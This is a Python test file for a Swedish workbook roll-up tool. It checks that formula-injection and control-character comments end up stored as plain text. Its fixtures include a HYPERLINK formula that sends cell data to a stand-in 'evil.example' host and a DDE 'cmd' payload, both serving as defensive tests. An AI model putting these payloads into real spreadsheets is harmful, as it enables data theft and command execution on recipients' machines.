"""User text in generated workbooks stays text: no formula injection, no control characters.

A unit manager's comment travels from their workbook into every roll-up. One that starts with
`=`, `+`, `-` or `@` must never become a formula there (`=HYPERLINK(...)` runs when the
coordinator opens the file), and control characters (which Excel stores as `_x0007_`) must be
removed instead of crashing the writer.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

from click.testing import CliRunner
from examples_copy import copy_example
from openpyxl import load_workbook

from hpdocs.cli import cli
from hpdocs.consolidate import consolidate
from hpdocs.org import Organisation
from hpdocs.plan import Plan
from hpdocs.project import load_project
from hpdocs.workbook.fill import fill_workbook
from hpdocs.workbook.read import KIND_ACTIVITY, Entry
from hpdocs.workbook.rollup_write import write_rollup
from hpdocs.workbook.write import WorkbookSpec, write_workbook

# Comment as typed -> comment as it must appear in the roll-up.
COMMENTS = {
    "ledning.enhet.a1@Q3": ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")', None),
    "ledning.enhet.a2@Q3": ("+46 70 123 45 67", None),
    "risk.enhet.a1@Q3": ("-5 % jämfört med förra året", None),
    "risk.enhet.a2@Q3": ("@SUMMA(A1:A9)", None),
    "kompetens.enhet.a1@Q3": ("=1+1\x07 ring\x1b[31m röd\x01\x1f slut", "=1+1 ring[31m röd slut"),
}
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def excel_escape(text: str) -> str:
    """XML text as Excel stores it: control characters as _xHHHH_ escapes."""
    return CONTROL.sub(lambda m: f"_x{ord(m.group()):04X}_", escape(text))


def typed_as_text(path: Path, texts: dict[str, str]) -> None:
    """Replace placeholders by the text a person typed with a leading apostrophe ('=...).

    Excel keeps such a cell as a string (not a formula), with control characters escaped as
    _xHHHH_; openpyxl writes neither, so the strings are rewritten inside the zip.
    """
    with zipfile.ZipFile(path) as zf:
        members = [(info, zf.read(info)) for info in zf.infolist()]
    left = dict(texts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, content in members:
            if info.filename.startswith("xl/") and info.filename.endswith(".xml"):
                text = content.decode("utf-8")
                for placeholder in [p for p in left if f">{p}<" in text]:
                    text = text.replace(f">{placeholder}<", f">{excel_escape(left.pop(placeholder))}<")
                content = text.encode("utf-8")
            zf.writestr(info, content)
    assert not left, f"not found: {sorted(left)}"


def rollup_cells(path: Path) -> list[tuple[str, object, str]]:
    """(coordinate, value, data_type) of every cell with text in every sheet."""
    wb = load_workbook(path)
    try:
        return [
            (f"{ws.title}!{cell.coordinate}", cell.value, cell.data_type)
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
    finally:
        wb.close()


def assert_only_text(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name)
                assert not FORMULA.search(xml), f"{path.name}: formel i {name}"
                assert not CONTROL.search(xml.decode("utf-8")), f"{path.name}: styrtecken i {name}"


def test_dangerous_comments_flow_into_the_rollups_as_text(tmp_path: Path) -> None:
    root = copy_example(tmp_path / "projekt")
    for path in (root / "inkorg").iterdir():
        path.unlink()
    project = load_project(root)
    node = project.organisation.node("E11")
    target = root / "inkorg" / "Enhet Vårdcentralen Björkdalen.xlsx"
    spec = WorkbookSpec(project.plan, node, project.year, "Primärvård", "2022-01-10 08:00")
    write_workbook(spec, target)
    placeholders = {f"PLATSHALLARE{i}": typed for i, (typed, _) in enumerate(COMMENTS.values())}
    values = {row: {"status": "Klar", "kommentar": p} for row, p in zip(COMMENTS, placeholders, strict=True)}
    fill_workbook(target, values, identity={"hpdocs.uppdaterad": "2022-10-01"})
    typed_as_text(target, placeholders)

    result = CliRunner().invoke(cli, ["consolidate", str(root)], catch_exceptions=False)
    assert result.exit_code == 0, result.stdout + result.stderr
    rollups = sorted((root / "utdata" / "sammanstallningar").glob("*.xlsx"))
    company = next(p for p in rollups if "Bolag" in p.name)
    primary = next(p for p in rollups if "Primärvård" in p.name)
    for path in (company, primary):
        cells = rollup_cells(path)
        for typed, expected in COMMENTS.values():
            shown = expected or typed
            where = [(coord, kind) for coord, value, kind in cells if value == shown]
            assert len(where) >= 2, f"{path.name}: {shown!r} saknas (områdesblad och Data)"
            assert {kind for _, kind in where} == {"s"}, where
        assert_only_text(path)


def test_rollup_writer_strips_control_characters_it_is_given(
    plan: Plan, org: Organisation, tmp_path: Path
) -> None:
    """Defence in depth: even text that never passed the reader is written safely."""
    nasty = "=cmd|' /C calc'!A0\x00\x07\x1b\ufffe slut"
    entry = Entry(
        "E1", "ledning", "ledning.enhet.a1", KIND_ACTIVITY, "Q3", "Klar", comment=nasty, text="\x0bx"
    )
    rollup = consolidate(plan, org, "VO1", "Q3", 2022, [entry], submitted={"E1"})
    path = write_rollup(rollup, tmp_path / "rollup.xlsx")
    cells = rollup_cells(path)
    written = [
        (value, kind) for _, value, kind in cells if isinstance(value, str) and value.startswith("=cmd")
    ]
    assert written and set(written) == {("=cmd|' /C calc'!A0 slut", "s")}
    assert_only_text(path)
